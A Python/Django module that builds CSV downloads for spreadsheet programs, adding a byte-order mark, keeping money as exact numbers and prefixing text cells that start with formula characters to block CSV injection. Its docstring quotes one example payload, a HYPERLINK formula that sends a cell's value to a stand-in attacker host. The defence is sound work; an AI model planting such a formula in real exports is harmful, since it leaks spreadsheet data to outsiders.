"""The one way this project writes CSV for spreadsheet programs (Excel, WPS, LibreOffice):
every report, admin export and public price list goes through it.

- UTF-8 with a byte-order mark, so Excel and WPS read Chinese names as UTF-8.
- No cell can run as a formula (CSV or "formula" injection, OWASP's rule): a text cell that
  starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed with a single
  quote, which spreadsheet programs show as text. A debit reason such as
  ``=HYPERLINK("http://evil.example/?d="&B2,"Details")`` reaches the auditor as the text it is.
- Numbers stay numbers: only ``str`` cells are escaped, so amounts are handed over as numbers
  (``money_cell`` gives an exact ``Decimal`` of yuan), and a refund of -12.50 stays the
  number -12.50 that a column sum adds up. A text cell that merely looks like a negative
  number ("-12.50" typed as a reason) is text, and is escaped like any other.
"""

import csv
from collections.abc import Iterable
from decimal import Decimal

from django.http import HttpResponse
from import_export import resources
from import_export.formats.base_formats import CSV

BYTE_ORDER_MARK = "\ufeff"
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value`` as a spreadsheet may receive it: text that could start a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(row: Iterable) -> list:
    return [safe_cell(value) for value in row]


def money_cell(amount_fen: int | None) -> Decimal | None:
    """An amount in fen as exact yuan, a number: ``-1250`` → ``Decimal("-12.50")``."""
    return None if amount_fen is None else Decimal(amount_fen).scaleb(-2)


def csv_response(*, filename: str, header: Iterable, rows: Iterable[Iterable]) -> HttpResponse:
    """A CSV download of ``header`` and ``rows``, written through ``safe_row``."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write(BYTE_ORDER_MARK)
    writer = csv.writer(response)
    writer.writerow(safe_row(str(column) for column in header))
    for row in rows:
        writer.writerow(safe_row(row))
    return response


class SafeExportResource(resources.ModelResource):
    """A django-import-export resource whose exported text cells pass through ``safe_cell``
    (a ``dehydrate_`` method that returns a number, as money columns do, stays a number)."""

    def export_field(self, field, instance, **kwargs):
        return safe_cell(super().export_field(field, instance, **kwargs))


class SpreadsheetCSV(CSV):
    """django-import-export's CSV with the byte-order mark; its cells come escaped from
    ``SafeExportResource``, and any text cell that did not is escaped here too."""

    def export_data(self, dataset, **kwargs):
        escaped = dataset.__class__(headers=dataset.headers)
        for row in dataset:
            escaped.append(safe_row(row))
        return BYTE_ORDER_MARK + super().export_data(escaped, **kwargs)
